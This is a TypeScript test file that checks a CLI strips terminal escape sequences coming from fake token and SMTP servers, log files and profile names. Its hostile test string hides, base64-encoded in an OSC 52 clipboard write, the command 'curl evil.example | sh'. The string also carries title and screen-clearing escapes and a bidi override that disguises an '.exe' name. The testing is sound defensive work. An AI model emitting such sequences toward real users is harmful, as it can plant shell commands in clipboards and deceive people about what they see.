import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer as createHttpsServer, type Server as HttpsServer } from 'node:https';
import { createServer, type Server, type Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadOrCreatePki, type PracticePki } from '../../../electron/practice/certificates';
import { spawnCli } from '../../support/spawn-cli';

// Issue 17 point 7: what a server (or a user) sends must not reach the terminal as control
// sequences. The fake token server and the fake SMTP server send an OSC 52 clipboard write, a
// title change, a screen clear, a cursor-rewriting CR, a NUL, an 8-bit CSI and a bidi override.
const HOST = '127.0.0.1';
const TENANT = '0f1e2d3c-4b5a-6978-8a9b-0c1d2e3f4a5b';
const CLIENT = '1a2b3c4d-5e6f-4a7b-8c9d-0e1f2a3b4c5d';
const HOSTILE = '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b]0;pwned\x07\x1b[2J\x1b[H\x1bc\rfake\x00\u009b31m\u202egnp.exe';
// Control characters but TAB, LF and CRLF; C1; the bidi embeddings, overrides and isolates.
const CONTROL = /[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]|\r(?!\n)/;
let dir: string;
let pki: PracticePki;
const servers: Array<Server | HttpsServer> = [];
const sockets = new Set<Socket>();

function listen<T extends Server | HttpsServer>(server: T): Promise<number> {
  servers.push(server);
  server.on('connection', (s: Socket) => (sockets.add(s), s.on('close', () => sockets.delete(s))));
  return new Promise((resolve) => server.listen(0, HOST, () => resolve((server.address() as { port: number }).port)));
}

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'escapes-'));
  pki = await loadOrCreatePki(join(dir, 'data'));
});
afterAll(async () => {
  for (const s of sockets) s.destroy();
  await Promise.all(servers.map((s) => new Promise((r) => s.close(r))));
  rmSync(dir, { recursive: true, force: true });
});

async function hostileServers(): Promise<{ tokenPort: number; smtpPort: number }> {
  const tokenPort = await listen(
    createHttpsServer({ key: pki.server.key, cert: pki.server.cert }, (req, res) => {
      req.resume();
      req.on('end', () =>
        res.writeHead(401, { 'content-type': 'application/json' }).end(JSON.stringify({ error: 'invalid_client', error_description: `AADSTS7000215: Invalid client secret provided. ${HOSTILE}`, error_codes: [7000215] })),
      );
    }),
  );
  const smtpPort = await listen(
    createServer((socket) => {
      socket.on('error', () => undefined);
      socket.write(`554 5.7.0 ${HOSTILE} go away\r\n`);
      socket.end();
    }),
  );
  return { tokenPort, smtpPort };
}

const diagnoseArgs = (tokenPort: number, smtpPort: number) => [
  'diagnose', '--tenant-id', TENANT, '--client-id', CLIENT, '--mailbox', 'no-reply@contoso.onmicrosoft.com', '--secret-env', 'DIAG_SECRET',
  '--authority-host', `https://${HOST}:${tokenPort}`, '--smtp-host', HOST, '--smtp-port', String(smtpPort), '--ca-file', pki.caFile, '--timeout', '5',
];

describe('the CLI prints no control sequences from servers or users', () => {
  it.each([[[] as string[]], [['--json']]])('diagnose %j against a hostile token server and SMTP server', async (extra) => {
    const { tokenPort, smtpPort } = await hostileServers();
    const r = await spawnCli([...diagnoseArgs(tokenPort, smtpPort), ...extra], { env: { DIAG_SECRET: 'Xy8Q~abcdefghijklmnopqrstuvwxyz0123456789' }, killAfterMs: 25_000 });
    expect(r.killed).toBeNull();
    expect(r.code).toBe(1);
    const out = r.stdout + r.stderr;
    // The findings are there (the servers' texts reached the report) ...
    expect(out).toContain('TOKEN_SECRET_INVALID');
    expect(out).toContain('AADSTS7000215');
    expect(out).toContain('go away');
    // ... without a single control character, and the JSON still parses.
    expect(CONTROL.exec(out)).toBeNull();
    expect(out).not.toContain('pwned');
    if (extra.includes('--json')) expect(() => JSON.parse(r.stdout)).not.toThrow();
  }, 40_000);

  it.each([[[] as string[]], [['--json']]])('analyze-log %j of a guest.log carrying escapes', async (extra) => {
    const log = join(dir, 'guest.log');
    writeFileSync(
      log,
      `2026-02-10 14:34:06,549 ERROR  [admin-http-pool9][[]] cpm.guestaccess.apiservices.oauth.ExchangeOnlineProvider -::admin:::- Error acquiring token: PKIX path building failed: ${HOSTILE} unable to find valid certification path to requested target\n`,
    );
    const r = await spawnCli(['analyze-log', log, ...extra], { killAfterMs: 20_000 });
    expect(r.killed).toBeNull();
    expect(r.stdout).toContain('TLS_UNTRUSTED_CHAIN');
    expect(CONTROL.exec(r.stdout + r.stderr)).toBeNull();
    expect(r.stdout).not.toContain('pwned');
  }, 30_000);

  it('profiles list and show print a hostile profile name without its controls', async () => {
    const dataDir = join(dir, 'profiles-data');
    const name = 'Contoso\u202egnp.exe \x1b]0;pwned\x07\x1b[2J';
    const add = await spawnCli(
      ['profiles', 'add', name, '--tenant-id', TENANT, '--client-id', CLIENT, '--mailbox', 'no-reply@contoso.onmicrosoft.com', '--expiry', '2027-06-30', '--secret-stdin', '--data-dir', dataDir],
      { stdin: 'Xy8Q~abcdefghijklmnopqrstuvwxyz0123456789\n', killAfterMs: 20_000 },
    );
    expect(add.killed).toBeNull();
    for (const args of [['profiles', 'list'], ['profiles', 'list', '--json'], ['profiles', 'show', name, '--json']]) {
      const r = await spawnCli([...args, '--data-dir', dataDir], { killAfterMs: 20_000 });
      expect(r.code, `${args.join(' ')}: ${r.stderr}`).toBe(0);
      expect(r.stdout).toContain('Contoso');
      expect(CONTROL.exec(r.stdout + r.stderr), args.join(' ')).toBeNull();
      expect(r.stdout).not.toContain('pwned');
    }
    await spawnCli(['profiles', 'delete', name, '--yes', '--data-dir', dataDir], { killAfterMs: 20_000 });
  }, 90_000);
});
